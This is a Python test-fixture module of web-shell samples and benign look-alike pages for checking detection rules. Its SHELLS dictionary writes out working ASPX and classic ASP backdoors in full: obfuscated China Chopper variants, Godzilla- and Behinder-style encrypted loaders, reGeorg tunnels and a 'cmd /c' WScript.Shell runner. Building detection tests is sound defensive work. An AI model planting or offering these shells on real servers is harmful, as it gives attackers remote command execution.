"""Web shells and benign look-alikes written for these tests (not from the corpus).

Each shell is a variant a rule should generalise to: renamed parameters, string-split keywords, other
languages, other encodings. Each benign page uses a "dangerous" API the way real applications do.
"""

from __future__ import annotations

import base64

SHELLS: dict[str, bytes] = {
    # China Chopper, renamed parameter and odd spacing
    "chopper_spaced.aspx": b'<%@ Page Language = "JScript" %>\n<% eval ( Request.Form [ "k9x" ] , "unsafe" ) ; %>',
    # Chopper where "unsafe" is assembled from pieces and the request value goes through a variable
    "chopper_split.aspx": (b'<%@ Page Language="Jscript"%><% var p = Request.Params["zz"]; var u = "un" + "sa" + "fe"; eval(p, u); %>'),
    # Chopper in an OAB virtual directory dump (Get-OabVirtualDirectory output saved as .aspx)
    "oab_dump.aspx": (
        b"Name                            : OAB (Default Web Site)\r\n"
        b"PollInterval                    : 480\r\n"
        b"OfflineAddressBooks             : {}\r\n"
        b"InternalAuthenticationMethods   : {WindowsIntegrated}\r\n"
        b"ExtendedProtectionTokenChecking : None\r\n"
        b'ExternalUrl                     : http://q/<script language="JScript" runat="server">'
        b'function Page_Load(){eval(Request["code"],"unsafe");}</script>\r\n'
    ),
    # Classic ASP, VBScript
    "classic.asp": b'<%\r\nIf Request("p") <> "" Then Execute Request("p")\r\n%>',
    # Godzilla-style AES loader (structure of the public family, key and names changed)
    "godzilla_like.aspx": (
        b'<%@ Page Language="C#"%><%try { string key = "0123456789abcdef"; string pass = "q";'
        b" byte[] data = System.Convert.FromBase64String(Context.Request[pass]);"
        b" data = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(System.Text.Encoding.Default.GetBytes(key),"
        b" System.Text.Encoding.Default.GetBytes(key)).TransformFinalBlock(data, 0, data.Length);"
        b' if (Context.Session["cache"] == null) { Context.Session["cache"] ='
        b" (System.Reflection.Assembly)typeof(System.Reflection.Assembly)"
        b'.GetMethod("Load", new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { data }); }'
        b' else { object o = ((System.Reflection.Assembly)Context.Session["cache"]).CreateInstance("Q"); } } catch {} %>'
    ),
    # Behinder-style: decrypt the body, load it, call Equals(this)
    "behinder_like.aspx": (
        b'<%@ Page Language="C#" %><%@Import Namespace="System.Reflection"%><%Session.Add("k","abcdef0123456789");'
        b' byte[] k = Encoding.Default.GetBytes(Session[0] + ""), c = Request.BinaryRead(Request.ContentLength);'
        b" Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k)"
        b'.TransformFinalBlock(c, 0, c.Length)).CreateInstance("Z").Equals(this);%>'
    ),
    # reGeorg-style tunnel with its verbs and headers
    "tunnel.ashx": (
        b'<%@ WebHandler Language="C#" Class="T" %>\nusing System; using System.Web; using System.Net.Sockets;\n'
        b"public class T : IHttpHandler, System.Web.SessionState.IRequiresSessionState { public void ProcessRequest(HttpContext c) {\n"
        b' string cmd = c.Request.Headers.Get("X-CMD");\n if (cmd == "CONNECT") { Socket s = new Socket(AddressFamily.InterNetwork,'
        b' SocketType.Stream, ProtocolType.Tcp); c.Session["sock"] = s; c.Response.AddHeader("X-STATUS", "OK"); }\n'
        b' else if (cmd == "FORWARD") { } else if (cmd == "READ") { } else if (cmd == "DISCONNECT") { } }\n'
        b" public bool IsReusable { get { return false; } } }\n"
    ),
    # Neo-reGeorg-style tunnel: sockets kept in Application state, commands decoded from the body
    "neo_tunnel.aspx": (
        b'<%@ Page Language="C#" EnableSessionState="True"%><%@ Import Namespace="System.Net.Sockets" %><%\n'
        b"byte[] buff = new byte[Request.ContentLength]; Request.InputStream.Read(buff, 0, buff.Length);\n"
        b"string cmd = Decode(buff); string mark = Mark(buff);\n"
        b'if (cmd == "CONNECT") { Socket t = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);'
        b" t.Connect(Target(buff)); Application.Add(mark, t); }\n"
        b'else if (cmd == "FORWARD") { ((Socket)Application[mark]).Send(Body(buff)); }\n'
        b'else if (cmd == "READ") { var s2 = (Socket)Application[mark]; } %>'
    ),
    # Command runner with a renamed process variable and text-box input
    "runner.aspx": (
        b'<%@ Page Language="C#" %><script runat="server">void Go(object s, EventArgs e) {'
        b" var q = new System.Diagnostics.Process(); q.StartInfo.FileName = tbExe.Text; q.StartInfo.UseShellExecute = false;"
        b" q.StartInfo.RedirectStandardOutput = true; q.StartInfo.Arguments = tbArgs.Text; q.Start();"
        b" outp.Text = q.StandardOutput.ReadToEnd(); }</script>"
    ),
    # eval hidden in base64
    "b64.aspx": (
        b'<%@ Page Language="JScript" %><% var s = System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String("'
        + base64.b64encode(b'eval(Request.Item["a"],"unsafe");')
        + b'")); %>'
    ),
    # Classic ASP variants that hide the request behind session state, reversal, Chr() decoding or an XOR loop
    "asp_session.asp": b'<%If Request("q1")<>"" Then Session("q1")=Request("q1")\r\nIf Session("q1")<>"" Then Execute Session("q1")%>',
    "asp_reverse.asp": b"<% v = Request(Chr(113)) : ExecuteGlobal(StrReverse(v)) %>",
    "asp_decode.asp": (
        b'<%\r\nExecute(dec("%80%90%70"))\r\nFunction dec(t) : p = Split(t, "%") : For i = 1 To UBound(p)'
        b" : dec = dec & Chr(p(i) - 3) : Next : End Function\r\n%>"
    ),
    "asp_xor.asp": (
        b"<%\r\nn = Request.TotalBytes : b = Request.BinaryRead(n)\r\nFor i = 1 To n : c = c & Chr(AscB(MidB(b, i, 1)) Xor 7) : Next\r\n"
        b"Execute(c)\r\n%>"
    ),
    # WScript.Shell through Server.CreateObject in classic ASP
    "wsh.asp": b'<% Set o = Server.CreateObject("WScript.Shell") : Response.Write o.Exec("cmd /c " & Request("c")).StdOut.ReadAll() %>',
}

BENIGN: dict[str, bytes] = {
    # A diagnostics page that runs a fixed tool with fixed arguments
    "diag.aspx": (
        b'<%@ Page Language="C#" %><%@ Import Namespace="System.Diagnostics" %><script runat="server">\n'
        b'void Page_Load(object s, EventArgs e) { var psi = new ProcessStartInfo("ipconfig.exe", "/all");'
        b" psi.UseShellExecute = false; psi.RedirectStandardOutput = true;"
        b" using (var p = Process.Start(psi)) { output.Text = Server.HtmlEncode(p.StandardOutput.ReadToEnd()); } }\n</script>"
        b'<html><body><asp:Label id="output" runat="server"/></body></html>'
    ),
    # A contact form reading Request.Form and sending mail
    "contact.aspx": (
        b'<%@ Page Language="C#" %><script runat="server">\nvoid Page_Load(object s, EventArgs e) {'
        b' if (IsPostBack) { string name = Request.Form["name"]; string msg = Request.Form["message"];'
        b' var m = new System.Net.Mail.MailMessage("web@example.org", "team@example.org", "Contact from " + name, msg);'
        b" new System.Net.Mail.SmtpClient().Send(m); thanks.Visible = true; } }\n</script>"
    ),
    # An image page decoding a base64 logo
    "logo.ashx": (
        b'<%@ WebHandler Language="C#" Class="Logo" %>\nusing System; using System.Web;\n'
        b"public class Logo : IHttpHandler { public void ProcessRequest(HttpContext context) {"
        b' byte[] png = Convert.FromBase64String("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk'
        b'YPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==");'
        b' context.Response.ContentType = "image/png"; context.Response.BinaryWrite(png); }'
        b" public bool IsReusable { get { return true; } } }\n"
    ),
    # An upload page that keeps only the file name and saves into a fixed folder
    "upload.aspx": (
        b'<%@ Page Language="C#" %><script runat="server">\nvoid Upload_Click(object s, EventArgs e) {'
        b" if (FileUpload1.HasFile) { string name = System.IO.Path.GetFileName(FileUpload1.FileName);"
        b' FileUpload1.SaveAs(Server.MapPath("~/App_Data/uploads/") + name); status.Text = "Saved"; } }\n</script>'
    ),
    # A client-side JavaScript page that uses eval on JSON (not server code)
    "client.aspx": (
        b'<%@ Page Language="C#" %><html><head><script type="text/javascript">'
        b'var cfg = eval("(" + document.getElementById("cfg").value + ")");</script></head><body></body></html>'
    ),
    # A data page with a configured connection string
    "report.aspx": (
        b'<%@ Page Language="C#" %><%@ Import Namespace="System.Data.SqlClient" %><script runat="server">\n'
        b"void Page_Load(object s, EventArgs e) { using (var c = new SqlConnection("
        b'System.Configuration.ConfigurationManager.ConnectionStrings["db"].ConnectionString)) {'
        b' c.Open(); var cmd = new SqlCommand("SELECT Name FROM Products WHERE Id = @id", c);'
        b' cmd.Parameters.AddWithValue("@id", Request.QueryString["id"]);'
        b" grid.DataSource = cmd.ExecuteReader(); grid.DataBind(); } }\n</script>"
    ),
    # A backup page: runs a fixed tool, reads its output, writes into App_Data
    "backup.aspx": (
        b'<%@ Page Language="C#" %><script runat="server">\nvoid Backup_Click(object s, EventArgs e) {'
        b' var psi = new System.Diagnostics.ProcessStartInfo("sqlcmd.exe", "-S . -Q \\"BACKUP DATABASE shop TO DISK=\'shop.bak\'\\"");'
        b" psi.UseShellExecute = false; psi.RedirectStandardOutput = true;"
        b" using (var p = System.Diagnostics.Process.Start(psi)) { log.Text = p.StandardOutput.ReadToEnd(); }"
        b' foreach (var f in System.IO.Directory.GetFiles(Server.MapPath("~/App_Data/backups"))) {'
        b" if (System.IO.File.GetCreationTime(f) < DateTime.Now.AddDays(-30)) System.IO.File.Delete(f); } }\n</script>"
    ),
    # A maintenance handler that checks a key from configuration and clears a cache folder
    "maintenance.ashx": (
        b'<%@ WebHandler Language="C#" Class="Maintenance" %>\nusing System; using System.IO; using System.Web;\n'
        b"public class Maintenance : IHttpHandler { public void ProcessRequest(HttpContext context) {"
        b' string key = System.Configuration.ConfigurationManager.AppSettings["MaintenanceKey"];'
        b' if (context.Request.QueryString["key"] != key) { context.Response.StatusCode = 403; return; }'
        b' foreach (var f in Directory.GetFiles(context.Server.MapPath("~/App_Data/cache"))) File.Delete(f);'
        b' context.Response.Write("ok"); } public bool IsReusable { get { return false; } } }\n'
    ),
    # Classic ASP include dispatcher and browser-sniffing client script
    "default.asp": (
        b'<%\nDim page : page = Request.QueryString("p")\n'
        b'If page = "news" Then Server.Execute("news.asp") Else Server.Execute("home.asp")\n%>'
        b'<script type="text/javascript">// browser sniffing for old IE\nvar isIE = navigator.userAgent.indexOf("MSIE") > -1;</script>'
    ),
    # A VB page that builds a CSV line with Chr() and lists reports
    "export.aspx": (
        b'<%@ Page Language="VB" %><script runat="server">\nSub Export_Click(s As Object, e As EventArgs)\n'
        b'  Dim line As String = Chr(34) & "Name" & Chr(34) & "," & Chr(34) & "Total" & Chr(34) & vbCrLf\n'
        b'  Response.ContentType = "text/csv" : Response.Write(line)\nEnd Sub\n</script>'
    ),
    # A JScript.NET page that uses eval only on a constant expression
    "calc.aspx": b'<%@ Page Language="JScript" %><% Response.Write(Math.round(3.7)); %>',
}
